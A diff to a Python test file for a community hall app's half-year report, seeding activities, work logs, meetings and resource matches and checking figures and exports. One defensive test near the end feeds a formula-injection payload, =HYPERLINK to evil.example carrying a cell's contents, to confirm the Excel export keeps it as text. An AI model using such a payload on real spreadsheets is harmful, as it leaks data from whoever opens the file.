@@ -17,8 +17,11 @@ from sqlalchemy import select
 from kiosk import classes, ledger, lending, people, report, tea, wishes
 from kiosk.auth import create_staff
 from kiosk.database import write_transaction
+from kiosk.extensions import db
 from kiosk.lending import hall_today
-from kiosk.models import Claim, Concern, ConcernStep, Loan, Registration, Wish
+from kiosk.models import (Activity, ActivitySeat, AgendaItem, Claim, Concern, ConcernStep, JointMeeting, Loan,
+                          PartnerUnit, Registration, ResourceMatch, SignUp, StaffUser, Volunteer, Wish, WorkKind,
+                          WorkLogEntry)
 from tests.conftest import english_client, token
 from tests.test_security import STAFF_PASSWORD, login
 
@@ -26,15 +29,22 @@ from tests.test_security import STAFF_PASSWORD, login
 START, END = report.last_half_year(date.today())
 
 EXPECTED = {
+    "joint_meetings": 2, "agenda_topics": 6, "agenda_resolutions": 3, "agenda_done": 2,
     "tea_held": 2, "tea_residents": 3,
     "concerns_collected": 5, "concerns_resolved": 4, "concerns_median_days": 7.0,
     "wishes_collected": 5, "wishes_claimed": 3, "wishes_fulfilled": 3,
-    "matches_wishes": 2,
-    "signups": 2,
-    "class_sessions": 2, "class_present": 3, "class_rate": 0.75,
+    "matches": 5, "matches_wishes": 2, "matches_activities": 1, "matches_agenda_items": 2,
+    "activities_held": 2, "activity_sign_ups": 7, "activity_attendance": 3,
+    "signups": 2, "class_sessions": 2, "class_present": 3, "class_rate": 0.75,
+    "home_visits": 2, "households_visited": 5, "care_calls": 2, "safety_checks": 1, "awareness_talks": 1,
+    "clean_ups": 2, "other_work": 1,
     "tool_loans": 3, "tool_borrowers": 2,
     "volunteer_services": 3, "volunteer_hours": 2.7, "people_served": 2,
 }
+# How the rows pages and exports (in English) name the values that some figures count.
+WORDS = {"present": "Present", "wish": "A wish", "activity": "An activity", "agenda_item": "An agenda item",
+         "care_call": "Care call", "safety_check": "Safety check", "awareness_talk": "Awareness talk",
+         "clean_up": "Clean-up", "other": "Other work"}
 
 
 def at(day: date, hour: int = 10, minute: int = 0) -> datetime:
@@ -189,7 +199,123 @@ def seed(hall) -> dict:
         for child, mark in marks.items():
             classes.mark(dates[day], regs[child], mark, staff)
     classes.cancel_date(dates[d(19)], "Holiday", staff)
-    return {"residents": r, "course": course.id, "registrations": regs}
+    community = seed_community(staff, r, units=(u1, u2), volunteers=(v1, v2.id), wishes_of_units=(w2, w3, w7),
+                               concerns=(c3, c4))
+    return {"residents": r, "course": course.id, "registrations": regs, **community}
+
+
+def seed_community(staff, r, units, volunteers, wishes_of_units, concerns) -> dict:
+    """Issue 10: activities and sign-ups, the work log, joint meetings and their items, resource
+    matches; as model rows, inside the range and just outside it."""
+    u1, u2 = units
+    v1, v2 = volunteers
+    w2, w3, w7 = wishes_of_units
+    with write_transaction() as s:
+        u3 = PartnerUnit(name="Supermarket", contact_name="Mr Wang", contact_phone="0891-6334567")
+        s.add(u3)
+        other = StaffUser(username="fieldworker", display_name="Field worker", password_hash="x", role="staff")
+        s.add(other)
+        flood = WorkKind(name_zh="防汛巡查", name_en="Flood watch")
+        s.add(flood)
+        s.flush()
+        kinds = {k.key: k for k in s.scalars(select(WorkKind))}
+        kinds["custom"] = flood
+
+        # Activities: A1 and A2 held in the range; A3 cancelled; A0 the day before; A4 the day after.
+        def activity(code, day, cancelled=False, **kw):
+            made = Activity(code=code, title_zh=f"活动 {code}", day=day, starts_at=time(9), ends_at=time(11),
+                            place="Hall", cancelled_at=at(day) if cancelled else None, created_by_id=staff, **kw)
+            s.add(made)
+            s.flush()
+            s.add_all(ActivitySeat(activity_id=made.id, number=n) for n in range(1, 11))
+            s.flush()
+            return made
+
+        a0 = activity("A0", BEFORE)
+        a1 = activity("A1", d(7), organiser="partner", partner_unit_id=u1, capacity=10)
+        a2 = activity("A2", d(30), organiser="team", team="Red Wrench")
+        a3 = activity("A3", d(40), cancelled=True)
+        a4 = activity("A4", AFTER)
+        n = iter(range(1, 100))
+
+        def sign_up(a, resident, created, status="confirmed", attended=None):
+            k = next(n)
+            s.add(SignUp(activity_id=a.id, receipt=f"RC{k:06d}", form_token=token(), resident_id=resident,
+                         status=status, seat=k if status == "confirmed" else None,
+                         wait_ticket=k if status == "waiting" else None, channel="phone", created_at=created,
+                         attended=attended))
+
+        sign_up(a0, r[0], at(BEFORE - timedelta(days=3)), attended=True)  # before: neither counts
+        sign_up(a1, r[0], at(d(1)), attended=True)
+        sign_up(a1, r[1], at(d(2)), attended=False)
+        sign_up(a1, r[2], at(d(3)), status="waiting")
+        sign_up(a1, r[3], at(BEFORE, 23, 30), status="cancelled")  # signed up before the range
+        sign_up(a2, r[0], at(d(20)), attended=True)
+        sign_up(a2, r[4], at(d(21)), attended=True)
+        sign_up(a3, r[1], at(d(35)), attended=True)  # a sign-up; the activity was cancelled
+        sign_up(a4, r[5], at(END, 23, 30), attended=True)  # a sign-up; held after the range
+
+        # The work log: 2 home visits (5 households), 2 care calls, a safety check, a talk, 2
+        # clean-ups and one entry of a kind staff added; one visit before and a call after.
+        def work(kind, day, households=0, staff_ids=(staff,), volunteer_ids=()):
+            entry = WorkLogEntry(kind_id=kinds[kind].id, day=day, households=households, form_token=token(),
+                                 recorded_by_id=staff)
+            entry.staff = [s.get(StaffUser, i) for i in staff_ids]
+            entry.volunteers = [s.get(Volunteer, i) for i in volunteer_ids]
+            s.add(entry)
+
+        work("home_visit", d(2), 3, volunteer_ids=(v1,))
+        work("home_visit", END, 2, staff_ids=(staff, other.id))
+        work("home_visit", BEFORE, 5)
+        work("care_call", START)
+        work("care_call", d(50))
+        work("care_call", AFTER)
+        work("safety_check", d(10))
+        work("awareness_talk", d(11), volunteer_ids=(v1, v2))
+        work("clean_up", d(12), volunteer_ids=(v2,))
+        work("clean_up", d(13))
+        work("custom", d(14))
+
+        # Joint meetings: M1 and M2 held in the range, M0 before and M3 after, with their items.
+        def meeting(day, chair, present):
+            made = JointMeeting(day=day, place="Hall", chair_unit_id=chair, created_by_id=staff)
+            made.units = [s.get(PartnerUnit, i) for i in present]
+            s.add(made)
+            s.flush()
+            return made
+
+        def item(m, status, resolution="", source="partner", concern=None, closed=None, owner=None):
+            made = AgendaItem(meeting_id=m.id, source=source, concern_id=concern, topic=f"Topic {status}",
+                              suggested_by_unit_id=u2 if source == "partner" else None, resolution=resolution,
+                              owner_unit_id=owner, status=status, closed_at=closed, due_on=d(60))
+            s.add(made)
+            s.flush()
+            return made.id
+
+        m0, m1 = meeting(BEFORE, u1, (u1, u2)), meeting(d(10), u1, (u1, u2, u3.id))
+        m2, m3 = meeting(d(100), u2, (u1, u2)), meeting(AFTER, u2, (u2,))
+        item(m0, "done", "Fixed", closed=at(d(5)), owner=u1)  # done in the range, discussed before it
+        item(m1, "done", "Monthly advice morning", source="concern", concern=concerns[0], closed=at(d(30)),
+             owner=u1)
+        item(m1, "proposed")
+        i3 = item(m1, "resolved", "The clinic checks blood pressure", source="staff", owner=u2)
+        i4 = item(m2, "in_progress", "New bins at the east gate", source="concern", concern=concerns[1])
+        item(m2, "dropped")
+        item(m2, "resolved", "   ")  # nothing written down: not a resolution
+        item(m3, "done", "Done after", closed=at(AFTER, 12))
+
+        # Resource matches: 2 wishes, an activity and 2 agenda items in the range; 2 after. The
+        # wishes' matches exist (kiosk.wishes records one when a unit's claim is confirmed): dated here.
+        for unit, kind, ref, day in ((u1, "wish", w2, d(6)), (u1, "wish", w3, d(1)), (u2, "wish", w7, AFTER),
+                                     (u1, "activity", a1.id, START), (u2, "activity", a4.id, AFTER),
+                                     (u2, "agenda_item", i3, d(10)), (u1, "agenda_item", i4, END)):
+            made = s.scalar(select(ResourceMatch).where(ResourceMatch.partner_unit_id == unit,
+                                                        getattr(ResourceMatch, f"{kind}_id") == ref))
+            if made is None:  # a wish's match was recorded when the unit's claim was confirmed
+                made = ResourceMatch(partner_unit_id=unit, kind=kind, recorded_by_id=staff, **{f"{kind}_id": ref})
+                s.add(made)
+            made.day = day
+    return {"fieldworker": other.id}
 
 
 def test_last_half_year_and_half_year():
@@ -201,7 +327,8 @@ def test_last_half_year_and_half_year():
 
 def test_every_figure_of_a_known_half_year(any_hall):
     """On SQLite and PostgreSQL: each figure, and each figure traced to its rows."""
-    residents = seed(any_hall)["residents"]
+    seeded = seed(any_hall)
+    residents = seeded["residents"]
     p = report.period(START, END)
     values = report.measure(p)
     assert values == EXPECTED
@@ -221,6 +348,14 @@ def test_every_figure_of_a_known_half_year(any_hall):
     # The rows name residents by number only: the first resident borrowed twice, the second once.
     borrowers = report.rows(report.figure("tool_borrowers").row_stmt(p), report.BORROWERS.columns)
     assert borrowers == [[f"R-{residents[0]:05d}", 2], [f"R-{residents[1]:05d}", 1]]
+    # The work log names staff and volunteers by number: S-00001, V-00001.
+    visits = report.rows(report.figure("home_visits").row_stmt(p), report.HOME_VISITS.columns)
+    keys = [c.key for c in report.HOME_VISITS.columns]
+    volunteer = db.session.scalar(select(Volunteer.id).where(Volunteer.mobile == "13908911001"))
+    assert [(row[keys.index("households")], sorted((row[keys.index("staff")] or "").split()),
+             row[keys.index("volunteers")]) for row in visits] == [
+        (3, [f"S-{any_hall.admin_id:05d}"], f"V-{volunteer:05d}"),
+        (2, sorted([f"S-{any_hall.admin_id:05d}", f"S-{seeded['fieldworker']:05d}"]), None)]
 
 
 def test_held_means_not_after_today_and_not_cancelled(any_hall):
@@ -255,11 +390,13 @@ def test_the_period_is_counted_in_hall_time(any_hall):
 
 
 def test_the_registry_can_be_extended(any_hall):
-    """Issue 10 adds resource matches of its own by appending a figure to the area."""
-    extra = report.Figure("matches_test", "matches", "Test matches", report.PARTNER_MATCHES)
+    """Another part of the hall adds a figure to an area; figures keep the order of the areas."""
+    extra = report.Figure("matches_test", "matches", "Test matches", report.RESOURCE_MATCHES)
     report.add_figure(extra)
     try:
         assert extra in report.figures_of("matches")
+        areas = [a.key for a in report.AREAS]
+        assert [areas.index(f.area) for f in report.FIGURES] == sorted(areas.index(f.area) for f in report.FIGURES)
         assert report.measure(report.period(START, END), [extra]) == {"matches_test": 0}
         with pytest.raises(ValueError):
             report.add_figure(extra)
@@ -308,8 +445,9 @@ def test_the_report_page_shows_every_figure_and_links_to_its_rows(seeded):
         assert len(csv_rows) - 1 == shown_rows, key
         header = csv_rows[0]
         if figure.measure == "sum":
-            minutes = [int(row[header.index("Minutes")]) for row in csv_rows[1:]]
-            assert round(sum(minutes) / 60, 1) == value
+            label = str(next(c.label for c in figure.rows.columns if c.key == figure.column))
+            summed = [int(row[header.index(label)]) for row in csv_rows[1:]]
+            assert round(sum(summed) / figure.scale, 1) == value, key
         if figure.measure == "median":
             days = [float(row[header.index("Days to resolve")]) for row in csv_rows[1:]]
             assert round(median(days), 1) == value
@@ -319,7 +457,8 @@ def test_the_report_page_shows_every_figure_and_links_to_its_rows(seeded):
 
 
 def test_rows_carry_numbers_not_names_or_mobiles(seeded):
-    for key in ("tool_loans", "tool_borrowers", "tea_residents", "people_served", "wishes_fulfilled"):
+    for key in ("tool_loans", "tool_borrowers", "tea_residents", "people_served", "wishes_fulfilled",
+                "activity_attendance"):
         body = seeded.get(f"/staff/report/rows/{key}.csv?{RANGE}").get_data(as_text=True)
         assert "R-0000" in body
         assert "Resident" not in body.replace("Resident number", "") and "1390000000" not in body
@@ -361,9 +500,11 @@ def test_the_excel_workbook(seeded):
         if f.measure == "count" and f.only is None:
             assert n == value, f.key
         elif f.measure == "count":
-            assert sum(1 for row in mine if row[head.index("Attendance")] == "Present") == value
+            column = head.index(str(next(c.label for c in f.rows.columns if c.key == f.column)))
+            assert sum(1 for row in mine if row[column] == WORDS[f.only]) == value, f.key
         elif f.measure == "sum":
-            assert round(sum(row[head.index("Minutes")] for row in mine) / 60, 1) == value
+            column = head.index(str(next(c.label for c in f.rows.columns if c.key == f.column)))
+            assert round(sum(row[column] for row in mine) / f.scale, 1) == value, f.key
         elif f.measure == "median":
             assert round(median(row[head.index("Days to resolve")] for row in mine), 1) == value
         else:
@@ -435,7 +576,38 @@ def test_erasing_residents_keeps_the_figures(any_hall):
     seeded = seed(any_hall)
     for registration in seeded["registrations"].values():  # the guardians give up their places
         classes.cancel(registration, by="staff", staff_id=any_hall.admin_id)
+    with write_transaction() as s:  # and their places at activities
+        for place in s.scalars(select(SignUp).where(SignUp.status.in_(("confirmed", "waiting")))):
+            place.status, place.seat, place.ended_at = "cancelled", None, place.created_at
     p = report.period(START, END)
     for resident in seeded["residents"][:2]:  # borrowers, tea guests, served, guardians
         assert not people.erase(resident).already
     assert report.measure(p) == EXPECTED
+
+
+def test_text_that_looks_like_a_formula_stays_text_in_the_workbook(client, hall):
+    """A tea's theme typed as =HYPERLINK(...) must not run when the office opens the workbook."""
+    from io import BytesIO
+
+    from openpyxl import load_workbook
+
+    from kiosk import tea
+
+    login(client)
+    day = hall_today() - timedelta(days=1)
+    tea.save_session(tea.SessionFields(day, time(15), time(17), "=1+1",
+                                       '=HYPERLINK("http://evil.example/?"&A1,"click")'), hall.admin_id)
+    start, end = day.replace(day=1), day
+    response = client.get(f"/staff/report.xlsx?start={start}&end={end}")
+    book = load_workbook(BytesIO(response.data))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert any(str(c.value).startswith("'=HYPERLINK") for c in cells)
+
+
+@pytest.mark.parametrize("query", ["start=0001-01-01", "end=9999-12-31", "start=2026-02-30"])
+def test_dates_out_of_the_hall_years_are_refused_next_to_the_field(client, hall, query):
+    login(client)
+    for path in ("/staff/report", "/staff/report.xlsx", "/staff/report.csv"):
+        response = client.get(f"{path}?{query}")
+        assert response.status_code == 422, (path, query)
